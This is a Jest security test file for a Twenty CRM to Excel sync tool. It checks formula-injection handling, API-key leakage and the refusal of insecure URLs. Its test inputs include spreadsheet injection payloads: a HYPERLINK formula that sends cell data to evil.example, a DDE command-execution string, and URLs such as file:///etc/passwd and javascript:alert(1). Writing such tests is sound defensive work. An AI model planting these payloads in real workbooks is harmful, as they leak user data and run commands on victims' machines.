/**
 * Security: text from Twenty that looks like a formula stays text in the workbook; the API key never lands in
 * the workbook (any sheet, the state sheet included), the .xlsx file, logs, reports or errors; and the client
 * refuses plain-http URLs except to this machine.
 */
import { execFileSync } from "child_process";
import ExcelJS from "exceljs";
import { mkdtempSync, rmSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import { openXlsxFile } from "../../src/cli/xlsx-file";
import { describeRunReport, runSync, saveSettings } from "../../src/sync";
import { SyncError } from "../../src/sync/errors";
import { createTwentyClient, maskApiKey } from "../../src/twenty";
import { STATE_SHEET_NAME } from "../../src/workbook-layout/layout";
import { API_KEY, COMPANY_COLUMNS, mapping, PEOPLE_COLUMNS, startRig, type Rig } from "./support/rig";

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-2+3", "@SUM(1,2)", '=cmd|" /C calc"!A0', "\t=1+1", "=IMPORTXML(A2,\"//a\")"];

let rig: Rig;
let dir: string | null = null;
afterEach(async () => {
  await rig?.close();
  rig = undefined as unknown as Rig;
  if (dir) rmSync(dir, { recursive: true, force: true });
  dir = null;
});

/** The key, and a long prefix of it, so a truncated leak is caught too (the last 4 characters may show, masked). */
function expectNoKey(text: string, key = API_KEY) {
  expect(text).not.toContain(key);
  expect(text).not.toContain(key.slice(0, 12));
}

async function rigWithInjectedCompanies() {
  rig = await startRig({ mappings: [mapping("companies", "Companies", COMPANY_COLUMNS)] });
  const ids = INJECTIONS.map((name, i) => rig.stub.store.insert("companies", { name, employees: i + 1 }).id);
  return ids;
}

describe("formula-looking text from Twenty", () => {
  it("lands as text in Excel, never as a formula, and a later sync leaves Twenty's value alone", async () => {
    const ids = await rigWithInjectedCompanies();
    expect((await rig.sync("pull")).ok).toBe(true);
    const nameColumn = COMPANY_COLUMNS.indexOf("name");
    const rows = await rig.rows("Companies");
    for (const [i, id] of ids.entries()) {
      const row = rows.find((r) => r.values.id === id)!;
      const cell = rig.fake.workbook.cell(`Companies!${String.fromCharCode(65 + nameColumn)}${row.rowNumber}`);
      expect({ value: cell.value, formula: cell.formula }).toEqual({ value: INJECTIONS[i], formula: null });
    }
    await rig.expectSettled();
    for (const [i, id] of ids.entries()) expect(rig.stub.store.get("companies", id)?.name).toBe(INJECTIONS[i]);
  });

  it("lands as a plain string in the CLI's .xlsx file", async () => {
    const ids = await rigWithInjectedCompanies();
    dir = mkdtempSync(join(tmpdir(), "reliability-xlsx-"));
    const path = join(dir, "book.xlsx");
    const file = await openXlsxFile(path);
    await saveSettings(file.port, rig.settings);
    expect((await runSync({ mode: "pull", settings: rig.settings }, { sheet: file.port, crm: rig.crm })).ok).toBe(true);
    await file.save();

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.getWorksheet("Companies")!;
    const found = new Map<string, ExcelJS.Cell>();
    sheet.eachRow((row) => {
      const id = row.getCell(1).value;
      if (typeof id === "string") found.set(id, row.getCell(COMPANY_COLUMNS.indexOf("name") + 1));
    });
    for (const [i, id] of ids.entries()) {
      const cell = found.get(id)!;
      expect({ type: cell.type, value: cell.value, formula: cell.formula }).toEqual({ type: ExcelJS.ValueType.String, value: INJECTIONS[i], formula: undefined });
    }
    // Nothing in the file's XML is a formula element, and the key is nowhere in the file.
    expect(execFileSync("unzip", ["-p", path, "xl/worksheets/*.xml"], { encoding: "utf8" })).not.toMatch(/<f[ >]/);
    const everything = execFileSync("unzip", ["-p", path], { encoding: "utf8", maxBuffer: 64 * 1024 * 1024 });
    expect(everything).toContain(STATE_SHEET_NAME);
    expectNoKey(everything);
  });
});

describe("the API key", () => {
  /** Everything a user or another program could read back from a workbook in the in-memory Excel. */
  function workbookText(r: Rig): string {
    const parts: string[] = [];
    for (const name of r.fake.workbook.sheetNames()) {
      for (const { info } of r.fake.workbook.cells(name)) parts.push(String(info.value), String(info.formula ?? ""), JSON.stringify(info.validation ?? ""));
      parts.push(...r.fake.workbook.notes(name).map((n) => n.content), ...r.fake.workbook.comments(name).map((c) => c.content));
    }
    return parts.join("\n");
  }

  it("never reaches the workbook, the state sheet, reports or logs, through faults, errors and conflicts", async () => {
    const logged: string[] = [];
    const spies = (["log", "info", "warn", "error", "debug"] as const).map((level) =>
      jest.spyOn(console, level).mockImplementation((...args: unknown[]) => void logged.push(args.map((a) => (a instanceof Error ? `${a.message}\n${a.stack}` : typeof a === "string" ? a : JSON.stringify(a))).join(" "))),
    );
    try {
      rig = await startRig({
        stub: { size: { companies: 30, people: 30 } },
        mappings: [mapping("companies", "Companies", COMPANY_COLUMNS), mapping("people", "People", PEOPLE_COLUMNS, { strategy: "field_merge" })],
      });
      const reports = [await rig.sync("pull")];
      await rig.trackEdits();
      const people = await rig.rows("People");
      await rig.edit("People", people[1].rowNumber, "emails.primaryEmail", "broken-email");
      await rig.appendRow("Companies", { name: "Keyless Inc", employees: 3 });
      rig.stub.setFaults({ serverErrorRate: 0.3, dropRate: 0.2, faultAfterWrite: true, seed: 7 });
      reports.push(await rig.sync("sync"), await rig.sync("push"));
      rig.stub.setFaults(null);
      // A conflict leaves both values in a note on the cell: that note is scanned too.
      await rig.edit("People", people[0].rowNumber, "city", "Sheet city");
      rig.stub.store.update("people", String(people[0].values.id), { city: "Twenty city" });
      reports.push(await rig.sync("sync"), await rig.sync("sync", { dryRun: true }));
      expect(reports.at(-1)!.objects.find((o) => o.object === "people")!.conflicts).toHaveLength(1);
      expect(reports.at(-1)!.objects.find((o) => o.object === "people")!.rowErrors).toHaveLength(1);

      // The scan does see the workbook's content, its notes and the state sheet.
      expect(workbookText(rig)).toContain("Twenty city");
      expect(workbookText(rig)).toContain("state/people");
      expect(rig.fake.workbook.sheetNames()).toContain(STATE_SHEET_NAME);
      expectNoKey(workbookText(rig));
      for (const report of reports) {
        expectNoKey(JSON.stringify(report));
        expectNoKey(describeRunReport(report));
      }
      expectNoKey(logged.join("\n"));
    } finally {
      spies.forEach((spy) => spy.mockRestore());
    }
  });

  it("is not echoed by connection tests or errors, whether it is rejected or the server is unreachable", async () => {
    rig = await startRig();
    const wrongKey = "rk_live_WRONGwrongWRONG9876";
    const rejected = createTwentyClient({ baseUrl: rig.stub.url, apiKey: wrongKey, maxRetries: 0 });
    const test = await rejected.testConnection();
    expect(test.ok).toBe(false);
    expect(test.details.apiKey).toBe(maskApiKey(wrongKey));
    expectNoKey(JSON.stringify(test), wrongKey);
    const error = await rejected.listRecords("companies").catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SyncError);
    expect((error as SyncError).code).toBe("AUTH_ERROR");
    expectNoKey(`${(error as SyncError).message}\n${(error as SyncError).stack}\n${JSON.stringify((error as SyncError).toInfo())}`, wrongKey);

    const unreachable = createTwentyClient({ baseUrl: "http://127.0.0.1:9", apiKey: API_KEY, maxRetries: 0, timeoutMs: 500 });
    const down = await unreachable.testConnection();
    expect(down.ok).toBe(false);
    expectNoKey(JSON.stringify(down));
    const network = (await unreachable.listObjects().catch((e: unknown) => e)) as SyncError;
    expect(network.code).toBe("NETWORK_ERROR");
    expectNoKey(`${network.message}\n${network.stack}`);
  });

  it("is not echoed when the connection settings are refused", () => {
    for (const baseUrl of ["http://example.com", "not a url"]) {
      let thrown: unknown;
      try {
        createTwentyClient({ baseUrl, apiKey: API_KEY });
      } catch (error) {
        thrown = error;
      }
      expect(thrown).toBeInstanceOf(SyncError);
      expectNoKey(`${(thrown as SyncError).message}\n${(thrown as SyncError).stack}`);
    }
  });
});

describe("plain http", () => {
  const refusal = (baseUrl: string): string | null => {
    try {
      createTwentyClient({ baseUrl, apiKey: API_KEY });
      return null;
    } catch (error) {
      return error instanceof SyncError ? `${error.code}: ${error.message}` : String(error);
    }
  };

  it.each(["http://127.0.0.1:3000", "http://localhost:8080/", "http://[::1]:3001", "https://api.twenty.com", "https://crm.example.com/rest"])("is allowed for %s", (url) => {
    expect(refusal(url)).toBeNull();
  });

  it.each(["http://example.com", "http://api.twenty.com", "http://10.0.0.5:3000", "http://127.0.0.1.nip.io", "http://localhost.evil.example", "ftp://127.0.0.1", "file:///etc/passwd", "javascript:alert(1)"])(
    "is refused for %s",
    (url) => {
      expect(refusal(url)).toMatch(/^VALIDATION_ERROR: .*(https|not a valid URL)/);
    },
  );
});
